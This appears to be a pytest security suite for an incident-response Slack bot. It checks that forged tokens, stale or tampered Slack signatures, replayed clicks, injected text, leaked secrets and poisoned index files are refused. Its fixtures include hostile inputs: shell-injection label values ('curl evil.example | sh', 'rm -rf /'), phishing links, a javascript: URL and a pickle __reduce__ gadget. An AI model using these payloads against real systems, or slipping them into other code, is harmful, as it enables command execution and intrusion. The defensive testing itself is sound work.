"""What people and systems that mean harm can reach: nothing that they should not."""

import json
import logging
import pickle
import re
import sqlite3
import time
from collections.abc import Callable, Iterator
from copy import deepcopy
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest

from bot.app import build_engine
from bot.clock import SystemClock
from bot.demo.story import Story, StoryAlert
from bot.settings import load_settings
from bot.store.database import Database
from bot.suggestions.corrections import Word
from bot.suggestions.linking import Links
from bot.suggestions.questions import SuggestRequest
from bot.workspace.http_events import sign
from knowledge.embed.hashing import HashingEmbedder
from knowledge.embed.port import Embedder
from knowledge.model import Document, DocumentState, PastIncident, Runbook
from knowledge.text.passages import passages_of
from tests.support.databases import sqlite_url
from tests.support.house import CHANNEL, TOKEN, House, text_of
from tests.support.together import together

pytestmark = [pytest.mark.model]


@pytest.fixture(scope="module")
def http_house(
    tmp_path_factory: pytest.TempPathFactory, real_embedder: Embedder
) -> Iterator[House]:
    """One for all refusals: what is refused leaves nothing behind."""
    with House(tmp_path_factory.mktemp("house"), real_embedder, "http") as opened:
        yield opened


def named(story: Story, name: str) -> StoryAlert:
    return next(alert for alert in story.fire_more if alert.name == name)


def learn(house: House, *documents: Document) -> None:
    """Put documents into the memory, and wait until searches see them."""
    rows = [(document, passages_of(document)) for document in documents]
    source = house.database.knowledge_source()
    source.upsert(rows, actor="tests", now=datetime.now(UTC))
    house.until(lambda: house.engine.status()["revision"] == source.head())


def suggested(house: House, text: str, **labels: str) -> dict[str, Any]:
    answer = house.post("/v1/suggest", {"text": text, "labels": labels})
    assert answer.status_code == 200
    found: dict[str, Any] = answer.json()
    return found


def inbox_size(house: House) -> int:
    return sum(house.get("/v1/inbox?limit=1")["counts"].values())


# -- forged webhooks --------------------------------------------------------------------------

PROTECTED = [
    ("POST", "/v1/alerts/alertmanager"),
    ("POST", "/v1/alerts/generic"),
    ("POST", "/v1/suggest"),
    *[("GET", f"/v1/{name}") for name in ("alerts", "incidents", "suggestions", "receipts")],
    ("GET", "/v1/inbox"),
    ("GET", "/v1/incidents/RCL-1"),
]
FORGED: list[dict[str, str]] = [
    {},
    {"Authorization": "Bearer"},
    {"Authorization": "Bearer wrong"},
    {"Authorization": f"Bearer {TOKEN}x"},
    {"Authorization": f"Bearer {TOKEN[:-1]}"},
    {"Authorization": f"Bearer {TOKEN.upper()}"},
    {"Authorization": f"Basic {TOKEN}"},
    {"Authorization": TOKEN},
    {"X-Api-Key": TOKEN},
    {"Cookie": f"token={TOKEN}"},
]


@pytest.mark.parametrize(("method", "path"), PROTECTED)
def test_no_door_opens_to_a_forged_token(http_house: House, method: str, path: str) -> None:
    before = inbox_size(http_house)
    with httpx.Client(trust_env=False, base_url=http_house.address) as client:
        answers = [client.request(method, path, headers=h, content=b"{}") for h in FORGED]
        answers.append(client.request(method, path, params={"token": TOKEN}))
    assert {answer.status_code for answer in answers} == {401}
    assert all(TOKEN not in answer.text for answer in answers)
    assert inbox_size(http_house) == before


def test_without_a_token_configured_everything_is_closed(
    tmp_path: Path, real_embedder: Embedder
) -> None:
    with House(tmp_path, real_embedder, "http", RECALL_WEBHOOK_TOKEN="") as house:
        for method, path in PROTECTED:
            for offered in ("None", "null", TOKEN):
                answer = httpx.request(
                    method,
                    f"{house.address}{path}",
                    headers={"Authorization": f"Bearer {offered}"},
                    trust_env=False,
                )
                assert answer.status_code == 401


# -- forged Slack -----------------------------------------------------------------------------


def mention(house: House, text: str) -> bytes:
    body = {
        "type": "event_callback",
        "team_id": house.workspace.team_id,
        "event_id": f"Ev{time.time_ns()}",
        "event": {
            "type": "app_mention",
            "user": house.person("alice").id,
            "text": text,
            "channel": house.workspace.channel_id(CHANNEL),
            "ts": f"{time.time():.6f}",
        },
    }
    return json.dumps(body).encode()


def to_slack_door(
    house: House, body: bytes, *, secret: str | None = None, age: float = 0, form: bool = False
) -> httpx.Response:
    stamp = str(int(time.time() - age))
    signed_with = secret if secret is not None else house.workspace.signing_secret
    kind = "application/x-www-form-urlencoded" if form else "application/json"
    headers = {
        "Content-Type": kind,
        "X-Slack-Request-Timestamp": stamp,
        "X-Slack-Signature": sign(signed_with, stamp, body),
    }
    return httpx.post(
        f"{house.address}/slack/events", content=body, headers=headers, trust_env=False, timeout=30
    )


def test_the_right_signature_opens_slacks_door(http_house: House) -> None:
    before = inbox_size(http_house)
    assert to_slack_door(http_house, mention(http_house, "hello")).status_code == 200
    assert inbox_size(http_house) == before + 1


@pytest.mark.parametrize("age", [301, 3600, -330, -86_400])
def test_an_old_signature_is_refused(http_house: House, age: float) -> None:
    before = inbox_size(http_house)
    assert to_slack_door(http_house, mention(http_house, "hello"), age=age).status_code == 401
    assert inbox_size(http_house) == before


@pytest.mark.parametrize("secret", ["", "wrong", TOKEN])
def test_another_secret_is_refused(http_house: House, secret: str) -> None:
    body = mention(http_house, "hello")
    assert to_slack_door(http_house, body, secret=secret).status_code == 401


def reserialised(body: bytes) -> bytes:
    return json.dumps(json.loads(body), indent=1).encode()


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(lambda body: body + b" ", id="a space more"),
        pytest.param(lambda body: body.replace(b"hello", b"hullo"), id="another word"),
        pytest.param(reserialised, id="the same JSON written anew"),
        pytest.param(lambda _: b"", id="nothing"),
    ],
)
def test_a_body_changed_after_signing_is_refused(
    http_house: House, change: Callable[[bytes], bytes]
) -> None:
    body = mention(http_house, "hello")
    stamp = str(int(time.time()))
    headers = {
        "Content-Type": "application/json",
        "X-Slack-Request-Timestamp": stamp,
        "X-Slack-Signature": sign(http_house.workspace.signing_secret, stamp, body),
    }
    before = inbox_size(http_house)
    answer = httpx.post(
        f"{http_house.address}/slack/events",
        content=change(body),
        headers=headers,
        trust_env=False,
    )
    assert answer.status_code == 401
    assert inbox_size(http_house) == before


# -- clicks -----------------------------------------------------------------------------------


@pytest.fixture
def http_of_its_own(tmp_path: Path, real_embedder: Embedder) -> Iterator[House]:
    with House(tmp_path, real_embedder, "http") as opened:
        yield opened


def a_click(house: House, story: Story, wanted: str) -> dict[str, Any]:
    """The payload of a press that never happened, made from one that did."""
    cause = story.true_cause(2)
    house.fires(story.first_alert)
    card = house.card_that_says("Three causes fit")
    pasted = f"{cause.evidence_question}\n```\n{cause.evidence_log}\n```"
    house.person("alice").mentions_bot(CHANNEL, pasted, thread_ts=card.ts)
    card = house.card_that_says("Seen before", cause.expected_incident)
    house.until(house.is_settled)
    delivery = house.person("bob").clicks(card, "Not helpful")
    house.workspace.wait_until_acked(delivery)
    house.card_that_says("Not helpful (1)")
    button = next(
        element
        for block in card.blocks
        for element in block.get("elements", ())
        if isinstance(element.get("text"), dict) and wanted in element["text"]["text"]
    )
    payload = deepcopy(dict(delivery.payload))
    alice = house.person("alice")
    payload["user"] = {**payload["user"], "id": alice.id, "name": "alice", "username": "alice"}
    payload["actions"][0] |= {
        "action_id": button["action_id"],
        "value": button["value"],
        "action_ts": "1800000000.000001",
    }
    return payload


def press(house: House, payload: dict[str, Any]) -> int:
    body = urlencode({"payload": json.dumps(payload)}).encode()
    return to_slack_door(house, body, form=True).status_code


def audited(house: House) -> list[tuple[str, str]]:
    with house.database.read() as uow:
        return [(event.action, str(event.data.get("reason", ""))) for event in uow.audit.list()]


def test_fifty_deliveries_of_a_click_end_the_incident_once(
    http_of_its_own: House, story: Story
) -> None:
    house = http_of_its_own
    payload = a_click(house, story, "Resolved like")
    assert set(together(50, lambda _: press(house, payload))) == {200}
    house.card_that_says("Resolved like", "alice")
    house.until(house.is_settled)
    # Slack has no event id for clicks: the same press under another time must change nothing.
    for number in range(5):
        payload["actions"][0]["action_ts"] = f"1800000001.00000{number}"
        assert press(house, payload) == 200
    house.until(house.is_settled)
    house.until(lambda: audited(house).count(("button.refused", "said before")) == 5)
    incident = house.get("/v1/incidents/RCL-1")
    assert sum("resolved_like" in entry["data"] for entry in incident["timeline"]) == 1
    document = house.database.knowledge_source().get("RCL-1")
    assert document is not None
    assert document.version == 1
    assert [action for action, _ in audited(house)].count("button.resolved_like") == 1
    suggestion = house.get(f"/v1/suggestions/{incident['suggestion']['id']}")
    verdicts = sorted(one["verdict"] for one in suggestion["feedback"])
    assert verdicts == ["not_helpful", "resolved_like"]


def refusals(house: House) -> int:
    return len([action for action, _ in audited(house) if action == "button.refused"])


def test_clicks_that_are_not_what_they_say_change_nothing_and_are_audited(
    http_of_its_own: House, story: Story
) -> None:
    house = http_of_its_own
    genuine = a_click(house, story, "Resolved like")
    elsewhere = deepcopy(genuine)
    elsewhere["user"]["team_id"] = "T0ELSEWHERE"
    forged = deepcopy(genuine)
    forged["actions"][0]["value"] = "resolved_like:RCL-1:INC-87"
    other_app = deepcopy(genuine)
    other_app["user"]["team_id"] = other_app["team"]["id"] = "T0ELSEWHERE"
    before = house.get("/v1/incidents/RCL-1")
    refused = refusals(house)
    for number, payload in enumerate((elsewhere, forged, other_app)):
        payload["actions"][0]["action_ts"] = f"1800000002.00000{number}"
        assert press(house, payload) == 200
        # several workers take the clicks: one after the other, or their order is chance
        house.until(lambda wanted=refused + number + 1: refusals(house) == wanted)
    house.until(house.is_settled)
    house.until(lambda: len(audited(house)) >= refused + 4)
    after = house.get("/v1/incidents/RCL-1")
    assert (after["state"], after["revision"]) == (before["state"], before["revision"])
    assert [reason for action, reason in audited(house) if action == "button.refused"] == [
        "another team's button",
        "unknown button",
        "another team's button",
    ]
    assert house.database.knowledge_source().get("RCL-1") is None


# -- words that want to be more than words ----------------------------------------------------

HOSTILE = (
    "<!channel> <!here|here> <@U024BE7LH> <!subteam^S1> <https://login.evil.example|your bank> "
    "[log in](https://login.evil.example) ``` *bold* \u202egpj.exe \x00"
)


def strings_in(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings_in(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from strings_in(item)


def test_no_outside_text_becomes_a_mention_a_link_or_a_block(
    socket_house: House, story: Story
) -> None:
    house = socket_house
    page = Runbook(
        id="hostile-page",
        title=f"Sprocket jam {HOSTILE}",
        services=("sprocket",),
        alerts=("SprocketJam",),
        url="https://evil.example/<!channel>|x",
        body=f"# Sprocket jam\n\n## Mitigation {HOSTILE}\n\n1. Free the sprocket {HOSTILE}\n\n"
        "```\nkubectl -n <namespace> delete pod <pod>\n```\n",
    )
    past = PastIncident(
        id="INC-999",
        title=f"Sprocket jam {HOSTILE}",
        services=("sprocket",),
        alerts=("SprocketJam",),
        symptom=f"The sprocket jams {HOSTILE}",
        cause=f"Sand {HOSTILE}",
        resolution=f"Oil {HOSTILE}",
        runbook="hostile-page",
        confirmed_by=f"{HOSTILE} (T0/U0)",
    )
    learn(house, page, past)
    labels = {
        **story.first_alert.labels,
        "alertname": "SprocketJam",
        "service": "sprocket",
        "namespace": "shop; curl evil.example | sh",
        "pod": "x; rm -rf /",
        "cluster": HOSTILE,
    }
    house.fires(
        replace(
            story.first_alert,
            name="SprocketJam",
            labels=labels,
            annotations={
                "summary": f"The sprocket jams {HOSTILE}",
                "description": HOSTILE,
                "runbook_url": "javascript:alert(1)",
            },
        )
    )
    card = house.card_that_says("INC-999")
    mallory = house.workspace.add_user("mallory-<!channel>")
    mallory.joins(CHANNEL)
    asked = mallory.mentions_bot(CHANNEL, f"why does the sprocket jam? {HOSTILE}")
    reply = house.reply_to(asked)
    mallory.clicks(card, "Helpful")
    house.card_that_says("Helpful (1)")
    for message in (*house.cards(), reply):
        for text in strings_in([message.text, list(message.blocks)]):
            for opened in re.findall(r"<[^>]*>?", text):
                assert re.fullmatch(rf"<@{mallory.id}>", opened), opened
            assert "\u202e" not in text
            assert "\x00" not in text
    said = text_of(card)
    assert "rm -rf" not in said
    assert "curl evil" not in said
    assert "<pod>" in said


# -- secrets ----------------------------------------------------------------------------------

CANARIES = {
    "slack": "xoxb-" + "17653672481-19874698323-" + "pdFZKVeTuE8sk7oOcHrzqqgy",
    "github": "ghp_" + "Zk3LwT9vQeX2mN8bR5yU7cA1dF4gH6jK0pS3",
    "aws": "AKIA" + "QX7RZP2MNLKJ4TWE",
    "jwt": "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiJjYW5hcnkifQ.c2lnbmF0dXJlLWNhbmFyeQ",
    "password": "password=hunter2-canary-Zq",
    "url": "postgres://svc:Sw0rdfish-canary@db.example/orders",
    "bearer": "Authorization: Bearer " + "canary0123456789abcdefCANARY",
}
NEEDLES = [
    *[CANARIES[name] for name in ("slack", "github", "aws", "jwt")],
    "hunter2-canary-Zq",
    "Sw0rdfish-canary",
    "canary0123456789abcdefCANARY",
]
LEAKY = "orders-db standby is far behind, replay does not move. " + " and ".join(CANARIES.values())


def rows_outside_the_inbox(path: Path) -> Iterator[tuple[str, str]]:
    with sqlite3.connect(path) as connection:
        tables = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        for (table,) in tables.fetchall():
            for row in connection.execute(f'SELECT * FROM "{table}"'):
                if table == "inbox":
                    row = tuple(value for value in row if not isinstance(value, bytes))
                yield table, repr(row)


def is_ours(record: logging.LogRecord) -> bool:
    """Not the workspace's, and not what `set_up_logging` silences at every level."""
    silenced = ("bot.slack.bolt", "bot.slack.socket.client")
    if record.name.startswith(silenced):
        return record.levelno >= logging.WARNING
    return record.name.startswith(("bot.", "knowledge.")) and "workspace" not in record.name


def test_a_secret_goes_no_further_than_the_inbox(
    tmp_path: Path, socket_house: House, story: Story, caplog: pytest.LogCaptureFixture
) -> None:
    house = socket_house
    caplog.set_level(logging.DEBUG)
    alert = named(story, "OrdersDbReplicationLag")
    labels = {**alert.labels, "dsn": CANARIES["url"], "note": CANARIES["slack"]}
    told = {"summary": LEAKY, "description": LEAKY, "runbook_url": f"https://u:{NEEDLES[4]}@w/x"}
    house.fires(replace(alert, labels=labels, annotations={**alert.annotations, **told}))
    card = house.card_that_says("OrdersDbReplicationLag")
    alice = house.person("alice")
    house.reply_to(alice.mentions_bot(CHANNEL, f"{LEAKY}?"))
    alice.mentions_bot(CHANNEL, f"what is this?\n```\n{LEAKY}\n{LEAKY}\n```", thread_ts=card.ts)
    house.reply_to(card)
    asked = house.post("/v1/suggest", {"text": LEAKY, "labels": {"token": NEEDLES[0]}}).text
    # Bodies of which nothing can be made, with the secret in each place an error might quote.
    for broken in (
        {"version": LEAKY, "alerts": [{"labels": LEAKY}]},
        {"alerts": [{"status": LEAKY, "labels": {LEAKY: [LEAKY]}, "startsAt": LEAKY}]},
    ):
        assert house.post("/v1/alerts/alertmanager", broken).status_code == 202
        assert house.post("/v1/alerts/generic", broken).status_code == 202
    refused = house.post("/v1/suggest", {"text": 5, LEAKY: LEAKY}).text
    house.until(house.is_settled)
    house.until(lambda: house.get("/v1/inbox?limit=1")["counts"]["failed"] >= 3)
    ours = [
        message.text + str(message.blocks)
        for first in house.workspace.messages(CHANNEL)
        for message in house.workspace.thread(CHANNEL, first.ts)
        if message.user == house.workspace.bot.id
    ]
    assert len(ours) >= 3
    read = [
        str(house.get(f"/v1/{name}"))
        for name in ("alerts", "incidents", "incidents/RCL-1", "suggestions", "receipts", "inbox")
    ]
    places = {
        "database": [f"{t}: {row}" for t, row in rows_outside_the_inbox(tmp_path / "recall.db")],
        "messages": ours,
        "read API": read,
        "answers": [asked, refused],
        "log": [record.getMessage() for record in caplog.records if is_ours(record)],
    }
    found = [
        (place, needle, text[:200])
        for place, texts in places.items()
        for text in texts
        for needle in NEEDLES
        if needle in text
    ]
    assert found == []


# -- poisoned memory --------------------------------------------------------------------------


class Exploit:
    """Unpickling it makes a file: proof that somebody unpickled it."""

    def __init__(self, sentinel: Path) -> None:
        self._sentinel = sentinel

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return Path.touch, (self._sentinel,)


def quiet_engine(folder: Path) -> Any:
    environment = {"RECALL_DATA_DIR": str(folder)}
    return build_engine(load_settings(environment=environment), embedder=HashingEmbedder(64))


@pytest.mark.parametrize("poison", ["pickle", "truncated", "empty"])
def test_poisoned_index_files_are_built_anew_and_never_run(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, poison: str
) -> None:
    database = Database(sqlite_url(tmp_path), clock=SystemClock())
    pages = [Runbook(id=f"p{n}", title=f"Page {n}", body=f"Sprocket {n} jams") for n in range(5)]
    rows = [(page, passages_of(page)) for page in pages]
    database.knowledge_source().upsert(rows, actor="tests", now=datetime.now(UTC))
    database.close()
    question = SuggestRequest(text="Sprocket 3 jams")

    def ask() -> dict[str, Any]:
        engine = quiet_engine(tmp_path)
        engine.start()
        try:
            answer: dict[str, Any] = engine.suggest(question, 5).model_dump(exclude={"id"})
            return answer
        finally:
            engine.stop()

    before = ask()
    sentinel = tmp_path / "executed"
    files = [
        path
        for path in (tmp_path / "index").rglob("*")
        if path.is_file() and path.name not in ("lock", ".tantivy-writer.lock")
    ]
    assert len(files) > 3
    for path in files:
        whole = path.read_bytes()
        path.write_bytes(
            {
                "pickle": pickle.dumps(Exploit(sentinel)),
                "truncated": whole[: len(whole) // 2],
                "empty": b"",
            }[poison]
        )
    assert ask() == before
    assert not sentinel.exists()
    assert "building the index from the database" in caplog.text


def test_an_unreviewed_draft_is_never_cited(socket_house: House) -> None:
    house = socket_house
    text = "The marmalade centrifuge is out of balance"
    words = {"title": text, "alerts": ("MarmaladeOff",), "services": ("marmalade",)}
    page = Runbook(
        id="draft-page",
        body=f"# {text}\n\n## Mitigation\n\n1. Drink the marmalade.\n",
        state=DocumentState.DRAFT,
        **words,  # type: ignore[arg-type]
    )
    past = PastIncident(id="INC-990", symptom=text, state=DocumentState.DRAFT, **words)  # type: ignore[arg-type]
    learn(house, page, past)
    labels = {"alertname": "MarmaladeOff", "service": "marmalade"}
    said = json.dumps(suggested(house, text, **labels))
    assert "draft-page" not in said
    assert "INC-990" not in said
    assert "Drink the" not in said
    source = house.database.knowledge_source()
    for name in ("draft-page", "INC-990"):
        source.set_state(name, DocumentState.REVIEWED, actor="lead", now=datetime.now(UTC))
    house.until(lambda: house.engine.status()["revision"] == source.head())
    reviewed = json.dumps(suggested(house, text, **labels))
    assert "draft-page" in reviewed
    assert "INC-990" in reviewed


def test_one_hostile_user_who_clicks_all_day_changes_no_other_answer(
    socket_house: House, story: Story
) -> None:
    house = socket_house
    text = "The marmalade centrifuge is out of balance"
    labels = {"alertname": "MarmaladeOff", "service": "marmalade"}
    past = PastIncident(
        id="INC-990",
        title=text,
        alerts=("MarmaladeOff",),
        services=("marmalade",),
        symptom=text,
        cause="Oranges on one side",
        resolution="Spread the oranges",
    )
    learn(house, past)
    alert = replace(
        story.first_alert,
        name="MarmaladeOff",
        labels={**story.first_alert.labels, **labels},
        annotations={"summary": text},
    )
    alike = {**alert.labels, "alertname": "MarmaladeOff"}
    questions: list[tuple[str, dict[str, str]]] = [
        ("standby of orders-db is behind", {}),
        ("checkout answers 502", {}),
        ("certificate expires", {}),
        (text, alike),
    ]

    def answers() -> list[dict[str, Any]]:
        found = [suggested(house, question, **about) for question, about in questions]
        for answer in found:
            for volatile in ("id", "suggestion_id"):
                answer.pop(volatile, None)
        return found

    before = answers()
    assert before[-1]["incidents"][0]["id"] == "INC-990"
    mallory = house.workspace.add_user("mallory")
    mallory.joins(CHANNEL)
    for number in range(3):  # one incident after the other, all of one family
        # Another instance each time: one and the same would be flapping.
        instance = replace(alert, labels={**alert.labels, "instance": f"press-{number}"})
        house.fires(instance)
        card = house.card_that_says(f"RCL-{number + 1} ", "Seen before: INC-990")
        for _ in range(5):
            mallory.clicks(card, "Not helpful")
        mallory.clicks(house.card_that_says(f"RCL-{number + 1} ", "INC-990"), "Not the same")
        house.card_that_says(f"RCL-{number + 1} ", "Not the same as INC-990 (1)")
        house.resolves(instance)
        house.card_that_says(f"RCL-{number + 1} ", "Resolved: ")
    for question, about in questions:
        if not about:
            reply = house.reply_to(mallory.mentions_bot(CHANNEL, question))
            for _ in range(10):
                mallory.clicks(reply, "Not helpful")
    house.until(house.is_settled)
    assert answers() == before
    assert Links(house.database, SystemClock(), "cli:lead").say("RCL-1", "INC-990", Word.NOT_SAME)
    after = answers()
    assert after[:-1] == before[:-1]
    assert not after[-1]["incidents"]
    assert after[-1]["receipt"]["query"]["excluded"] == ["INC-990"]
